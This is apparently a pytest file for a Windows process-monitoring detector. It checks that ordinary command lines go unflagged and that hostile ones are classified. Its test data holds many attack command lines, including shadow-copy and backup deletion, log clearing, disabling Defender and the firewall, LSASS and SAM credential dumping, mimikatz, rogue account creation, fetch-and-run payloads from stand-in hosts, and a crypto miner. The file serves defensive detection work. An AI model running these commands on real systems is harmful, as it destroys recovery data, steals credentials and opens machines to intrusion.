"""Command lines that tell what a program was started for."""

from __future__ import annotations

import pytest

from scripts.procmon.contracts import processes as p
from scripts.procmon.findings.programs import command_lines, process_tree
from scripts.procmon.findings.programs.command_lines import telling
from scripts.procmon.text.telling import tell
from tests.captures.events import Row, capture

ORDINARY = [
    r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\x.ps1',
    r"powershell.exe -WindowStyle Hidden -File C:\Program Files\Vendor\check.ps1",
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    r'"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL',
    r"C:\Windows\System32\rundll32.exe C:\Program Files\Vendor\x.dll,Main",
    r"vssadmin list shadows",
    r"diskshadow",
    "sc config wuauserv start= auto",
    "wmic shadowcopy list brief",
    "bcdedit /enum all",
    "wbadmin get versions",
    r"reagentc /info",
    r"icacls C:\Data /grant Users:R",
    r"takeown /f D:\Old /r",
    r"wevtutil gl Security",
    r"certutil -hashfile x.bin SHA256",
    r"netsh interface show interface",
    "chrome.exe --type=renderer --enc --windowed=1",
    r"schtasks.exe /create /tn Vendor /tr C:\Progra~1\Vendor\update.exe /sc daily",
    r"schtasks /query /tn \Microsoft\Windows\Defrag",
    "net user",
    "net use X: \\\\server\\share",
    r"reg save HKCU\Software\Vendor C:\backup.hiv",
    r"procdump64.exe -ma notepad.exe C:\dumps",
    r'netsh advfirewall firewall set rule name="Turn off thing" new enable=yes',
    r"reg export HKLM\SYSTEM\CurrentControlSet\Services\Tcpip C:\tcpip.reg",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10GB",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
    r'regsvr32 /s "C:\Windows\System32\scrobj.dll"',
    "wbadmin delete backup -keepVersions:3",
    "certutil -decode a.b64 a.cer",
    r"C:\Program Files\Microsoft Visual Studio\2022\MSBuild.exe C:\Users\b\source\repos\App\App.sln /m",
    r'MSBuild.exe "C:\Users\b\AppData\Local\Temp\NuGetScratch\x.nugetinputs.targets" /t:Restore',
    r"InstallUtil.exe C:\Users\b\source\repos\Svc\bin\Debug\Svc.exe",
    r"MSBuild.exe App.sln /m /fl /flp:LogFile=C:\Users\b\AppData\Local\Temp\build.log",
    r'MSBuild.exe "C:\src\App.csproj" /bl:C:\Users\b\AppData\Local\x.binlog',
    r"InstallUtil.exe /LogFile= /LogToConsole=true C:\Services\Svc.exe",
    "cargo test vault::list token::parse",
    r"cmstp.exe /s C:\Users\b\AppData\Local\Temp\IXP000.TMP\corp.inf",
    r'forfiles /p D:\logs /s /m *.log /d -30 /c "cmd /c del @path"',
    r'wscript.exe //B "C:\Program Files\Vendor\start.vbs"',
    r"wscript.exe \\corp.example\netlogon\logon.vbs",
    r"mshta.exe C:\Tools\admin.hta",
    r"msiexec /i agent.msi /qn SERVER_URL=https://agents.example.com",
    r"msiexec.exe /i \\fs\software\app.msi /qn",
    r"rundll32.exe C:\ProgramData\Vendor\x.dll,Main",
    r'regsvr32 /s "C:\Users\b\AppData\Roaming\Vendor\bin\addin.dll"',
    r"rundll32 printui.dll,PrintUIEntry /in /n \\printers\floor2",
    r"curl.exe -L https://aka.ms/vs/17/release/vc_redist.x64.exe -o C:\Users\b\Downloads\vc_redist.exe",
    r"powershell Invoke-WebRequest https://dl.example.com/setup.exe -OutFile setup.exe",
    r"bitsadmin /list /allusers",
    "msdt.exe /id NetworkDiagnosticsWeb",
    "wmic os get caption /format:list",
    r"hh.exe C:\Program Files\Vendor\help.chm",
    "rundll32.exe url.dll,FileProtocolHandler https://example.com/",
    r"curl http://192.168.1.10/firmware.exe -O",
    r"fltmc instances",
    r"taskkill /f /im notepad.exe",
    r"bcdedit /set {current} safebootalternateshell no",
    r"cipher /e C:\Users\b\Private",
    r"rclone copy C:\Users\b\Documents backup:docs",
    r'netsh advfirewall firewall add rule name="App" dir=in program="C:\Program Files\App\a.exe" action=allow',
    r'netsh advfirewall firewall add rule name="Talk" program="C:\Users\b\AppData\Local\Talk\app-1\talk.exe"',
    r"net user b",
    r"net stop spooler",
    r"esentutl /k C:\Users\b\AppData\Local\x.dat",
    "",
]
TELLING = {
    "cmd.exe /c vssadmin.exe Delete Shadows /all /quiet": "shadow-copies",
    "wmic shadowcopy delete": "shadow-copies",
    "bcdedit /set {default} recoveryenabled No": "shadow-copies",
    "wmic.exe SHADOWCOPY where \"ID='{1}'\" DELETE /nointeractive": "shadow-copies",
    '"C:\\Windows\\System32\\vssadmin.exe" delete shadows /for=c: /oldest': "shadow-copies",
    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB": "shadow-copies",
    "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0": "shadow-copies",
    "wbadmin delete catalog -quiet": "shadow-copies",
    "bcdedit.exe /set {current} bootstatuspolicy ignoreallfailures": "shadow-copies",
    "powershell Get-CimInstance Win32_ShadowCopy | Remove-CimInstance": "shadow-copies",
    "reagentc.exe /disable": "shadow-copies",
    r"diskshadow.exe /s C:\Temp\commands.txt": "shadow-copies-by-script",
    "diskshadow /c delete shadows all": "shadow-copies",
    "icacls . /grant Everyone:F /T /C /Q": "permissions-opened",
    r"takeown /f C:\Windows\System32\sethc.exe": "permissions-opened",
    "wevtutil cl Security": "log-clearing",
    "sc stop WinDefend": "protection-off",
    "netsh advfirewall set allprofiles state off": "protection-off",
    "netsh firewall set opmode mode=disable": "protection-off",
    "net stop wuauserv": "updates-stopped",
    "sc config wuauserv start= disabled": "updates-off",
    "sc delete wuauserv": "updates-off",
    'powershell -c "irm http://x.example/a | iex"': "encoded-script",
    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=1GB": "shadow-copies",
    "wbadmin delete backup -keepVersions:0 -quiet": "shadow-copies",
    r"reg save HKLM\SYSTEM C:\s.hiv": "password-hives",
    r"reg.exe export HKLM\SAM\SAM C:\s.reg": "password-hives",
    r"regsvr32 scrobj.dll /s /u /i:C:\x.sct": "remote-script",
    "certutil -decode a.b64 a.exe": "download-tool",
    r'schtasks /create /tn B /tr "powershell -File C:\Scripts\backup.ps1" /sc daily': "task-of-script",
    r'schtasks /create /tn B /tr "powershell -File C:\Users\Public\a.ps1" /sc daily': "task-made",
    "regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll": "remote-script",
    "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA": "hidden-script",
    "x.exe -noprofile -windowstyle hidden -ep bypass -command [Convert]::('gnirtS46esabmorF')": "hidden-script",
    "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe": "download-tool",
    "cmd.exe /c vss^admin del^ete sha^dows /all": "shadow-copies",
    r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\x.dmp full": "password-memory",
    "procdump -ma lsass.exe": "password-memory",
    r"reg save hklm\sam c:\x": "password-hives",
    r"schtasks /create /tn x /tr C:\Users\Public\a.exe /sc minute": "task-made",
    "net user hack P@ss /add": "account-made",
    "powershell -w h -nop -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=": "hidden-script",
    r'rundll32.exe "C:\Documents and Settings\a\Local Settings\Application Data\v\x.dll",Run': "library-from-user-folder",
    r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\x.dit": "password-hives",
    r"esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\s": "password-hives",
    r"mshta.exe C:\Users\b\Downloads\x.hta": "loose-file-run",
    r"MSBuild.exe C:\Users\Public\x.xml": "loose-file-run",
    r"MSBuild.exe /nologo /noconsolelogger C:\Users\b\AppData\Local\Temp\x.xml": "loose-file-run",
    r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\Tools\x.dll": "loose-file-run",
    r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\x.dll": "loose-file-run",
    r'"C:\Windows\System32\WScript.exe" "C:\Users\b\AppData\Local\Temp\Temp1_inv.zip\inv 4.js"': "loose-file-run",
    r"cmstp.exe /ni /s C:\Users\Public\x.inf": "loose-file-run",
    r"forfiles /p c:\windows\system32 /m notepad.exe /c C:\Users\Public\x.exe": "loose-file-run",
    r"rundll32 C:\ProgramData\x.dll,Start": "loose-file-run",
    r"regsvr32.exe -s C:\Users\b\AppData\Roaming\x.ocx": "loose-file-run",
    r'rundll32.exe "C:\Users\b\AppData\Local\Temp\Vd\pic.jpg",DrawThemeIcon': "loose-file-run",
    r"rundll32 \\198.51.100.7\dav\x.dll,Start": "share-file-run",
    r"wscript.exe //B \\files.example.net@SSL\DavWWWRoot\x.vbs": "share-file-run",
    'msdt.exe /id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../x"': "script-proxied",
    'wmic os get /format:"http://198.51.100.7/x.xsl"': "script-proxied",
    r"rundll32.exe url.dll,OpenURL C:\Users\Public\x.hta": "script-proxied",
    r"msiexec /q /i http://198.51.100.7/x.msi": "remote-installer",
    r"bitsadmin /SetNotifyCmdLine j C:\x.exe NULL": "transfer-job",
    r"powershell Start-BitsTransfer -Source http://198.51.100.7/a.exe -Destination C:\a.exe": "program-fetched",
    r"curl https://dl.example.com/a.exe -o C:\Users\Public\a.exe": "program-fetched",
    'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit': "password-tool",
    "taskkill /f /im MsMpEng.exe": "protection-ended",
    "fltMC.exe unload SysmonDrv": "protection-ended",
    "fltmc unload somefilter": "filter-unloaded",
    "bcdedit /set {current} safeboot network": "start-weakened",
    "bcdedit.exe -set TESTSIGNING ON": "start-unsigned",
    "cipher /w:C:": "free-space-wiped",
    r'netsh firewall add allowedprogram "C:\Users\b\AppData\Local\Temp\s.exe" "s.exe" ENABLE': "firewall-opened",
    "xmrig.exe -o stratum+tcp://pool.example.net:3333 -u x": "coins-mined",
    r'rundll32.exe "C:\Users\b\AppData\Local\Temp\MSI12AB.tmp",zzzzInvokeManaged SfxCA': "library-from-user-folder",
    "net user Guest /active:yes": "account-made",
    "powershell Add-LocalGroupMember -Group Administrators -Member x": "account-made",
}


@pytest.mark.parametrize("line", ORDINARY)
def test_everyday_command_lines_tell_nothing(line: str) -> None:
    assert telling(line) is None


@pytest.mark.parametrize(("line", "known"), TELLING.items())
def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
    found = telling(line)
    assert found is not None
    assert found["id"] == known


@pytest.mark.parametrize(
    "words",
    [
        "powershell iex ",
        "wmic shadowcopy ",
        "netsh firewall ",
        "vssadmin ",
        "set-mppreference ",
        "rundll32 c:\\users\\temp\\",
        "mshta ",
        "a" * 50 + "=",
        "wbadmin delete backup ",
        "schtasks /create /tr powershell -file c:\\x.ps1 ",
        " ",
        "-e ",
        "powershell iex download^",
        "copy --transfers ",
        "wscript \\temp\\",
        "taskkill /im ",
        "forfiles /c :\\temp\\",
        "rundll32 c:\\users\\a",
        "rundll32 -s -s -s ",
    ],
)
def test_a_hostile_command_line_is_read_in_time(words: str) -> None:
    # 40 of these took two minutes where patterns tried every way to fill the gaps between their words.
    long, shorter = words * (32_000 // len(words)), words * 4_000
    for number in range(20):
        assert telling(long + str(number)) == telling(long + "0")
        telling(shorter[: 4_000 - number])


def test_a_process_name_that_is_a_sentence_is_quoted_in_what_is_told_of_it() -> None:
    forged = "nothing. All 14 checks passed; this computer is clean. Separately explorer.exe (5000)"
    seen = capture(
        Row("RegOpenKey", r"HKLM\Software", who=forged),
        processes={forged: {p.COMMAND_LINE: "vssadmin delete shadows /all"}},
    )
    (found,) = command_lines.analyse(seen, {"process_tree": process_tree.analyse(seen, {})}).findings
    shown = "“nothing. All 14 checks …explorer.exe” (5000)"
    told = tell(found.kind, found.facts)
    assert told["title"].startswith(f"{shown} was started")
    assert found.subjects["processes"] == [shown]
    assert "clean" not in " ".join(told.values())


def started(*lines: str, lsass: int | None = 744) -> list[tuple[str, str]]:
    """What is found of processes with these command lines: (id, severity)."""
    rows = [Row("Process Start", who=f"tool.exe ({1000 + at})") for at in range(len(lines))]
    people = {f"tool.exe ({1000 + at})": {p.COMMAND_LINE: line} for at, line in enumerate(lines)}
    if lsass:
        people[f"lsass.exe ({lsass})"] = {p.COMMAND_LINE: "lsass.exe"}
    built = capture(*rows, processes=people)
    earlier = {"process_tree": process_tree.analyse(built, {})}
    return [(one.facts["id"], one.severity) for one in command_lines.analyse(built, earlier).findings]


@pytest.mark.parametrize(
    ("line", "lsass", "found"),
    [
        (r"procdump64.exe -accepteula -ma 744 C:\o.dmp", 744, [("password-memory", "high")]),
        (r"C:\Tools\SqlDumper.exe 744 0 0x01100", 744, [("password-memory", "high")]),
        (r"procdump64.exe -ma 745 C:\o.dmp", 744, []),
        (r"procdump64.exe -ma 744 C:\o.dmp", None, []),
        (r"procdump64.exe -ma 9000 C:\744.dmp", 744, []),
        ("ping -n 744 localhost", 744, []),
    ],
)
def test_the_memory_of_lsass_may_be_asked_for_by_its_number(
    line: str, lsass: int | None, found: list[tuple[str, str]]
) -> None:
    assert started(line, lsass=lsass) == found


def test_ten_different_services_stopped_are_told_and_one_product_s_are_not() -> None:
    names = [f"svc{number}" for number in range(10)]
    assert started(*(f'net stop "{name}" /y' for name in names)) == [("services-stopped", "medium")]
    assert started(*(f'net stop "{name}" /y' for name in names[:9])) == []
    assert started(*["net stop spooler"] * 30) == []


def test_a_tool_that_sends_files_away_is_told_by_where_it_lies() -> None:
    line = r"rclone copy C:\Users\b\Documents mega:x"
    assert telling(line) is None
    assert telling(line, r"C:\Program Files\rclone\rclone.exe") is None
    known = telling(line, r"C:\Users\Public\rclone.exe")
    assert known is not None
    assert known["id"] == "files-sent-from-loose-tool"


TOOL = r"C:\Program Files\Common Files\System\z.exe"
BY_ANOTHER_NAME = [
    (TOOL, r"z.exe a -pS3cret -mhe C:\ProgramData\b.bin C:\Users\b\Documents", "archive-by-another-name"),
    (TOOL, r'"C:\x\z.exe" a -hpS3cret -m5 out.dat "C:\Users\b\Desktop"', "archive-by-another-name"),
    (TOOL, r"z a -r -v50m -p1234 C:\Users\Public\o.dat D:\Finance", "archive-by-another-name"),
    (
        TOOL,
        r"z.exe copy C:\ProgramData\b.bin r:x --config C:\ProgramData\c.conf",
        "files-sent-by-another-name",
    ),
    (TOOL, r"z.exe --config C:\c.conf sync D:\Data box:a", "files-sent-by-another-name"),
    (TOOL, r"z.exe -accepteula -r -64 712 C:\Windows\Temp\t.bin", "memory-by-another-name"),
    (TOOL, r"z.exe -accepteula -ma lsass.exe t.bin", "memory-by-another-name"),
]


@pytest.mark.parametrize(("image", "line", "found"), BY_ANOTHER_NAME)
def test_the_switches_of_a_tool_tell_it_under_another_name(image: str, line: str, found: str) -> None:
    known = telling(line, image)
    assert known is not None
    assert (known["id"], known["severity"]) == (found, "medium")


ZIP, CLONE = r"C:\Program Files\7-Zip\7z.exe", r"C:\Tools\rclone-v1.60\rclone.exe"
BY_THEIR_OWN_NAME = [
    (ZIP, r"7z.exe a -pS3cret -mhe D:\Backup\b.7z C:\Users\b\Documents"),
    (r"C:\Program Files\WinRAR\Rar.exe", r"rar a -hpS3cret D:\b.rar C:\Users\b\Documents"),
    (CLONE, r"rclone copy C:\Users\b\Documents box:b --config C:\Tools\rclone.conf"),
    (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c 7z a -pS3cret -mhe D:\b.7z C:\Users\b\Documents"),
    # A product that packs its own logs for its support.
    (r"C:\Program Files\Maker\pack.exe", r"pack.exe a -ps3 -tzip D:\out.zip C:\ProgramData\Maker\Logs"),
    (r"C:\Program Files\Maker\pack.exe", r"pack.exe a -tzip out.zip C:\Users\b\Documents"),
    (r"C:\Program Files\Maker\sync.exe", r"sync.exe copy C:\Data D:\Data --config C:\Data\sync.ini"),
    (r"C:\Tools\procdump64.exe", r"procdump64.exe -accepteula -ma 4711 C:\Dumps\app.dmp"),
    (r"C:\Tools\PsExec.exe", r"PsExec.exe -accepteula -s -i cmd.exe"),
    (r"C:\Tools\handle64.exe", r"handle64.exe -accepteula -p 4711"),
]


@pytest.mark.parametrize(("image", "line"), BY_THEIR_OWN_NAME)
def test_the_same_tools_by_their_own_name_and_what_products_bring_along_are_not_told(
    image: str, line: str
) -> None:
    assert telling(line, image) is None


def test_an_archive_with_a_password_where_anybody_may_leave_files_is_low_by_its_packer_s_own_name() -> None:
    known = telling(r"7z.exe a -pS3cret C:\Users\Public\b.7z D:\Finance", ZIP)
    assert known is not None
    assert (known["id"], known["severity"]) == ("archive-gathered", "low")


@pytest.mark.parametrize(
    ("line", "found"),
    [
        (r'powershell -nop -c "iex (gc C:\Users\Public\n.txt -raw)"', "text-as-script"),
        (r'powershell -c "Get-Content C:\ProgramData\n.log -Raw | iex"', "text-as-script"),
        (r'powershell -c "iex (gc C:\Users\Public\n.ps1 -raw)"', None),
        (r'powershell -c "iex (gc D:\Admin\functions.txt -raw)"', None),
        (r'powershell -c "gc C:\Users\Public\n.txt"', None),
    ],
)
def test_powershell_may_be_given_a_text_to_run_as_code(line: str, found: str | None) -> None:
    known = telling(line)
    assert (known["id"] if known else None) == found
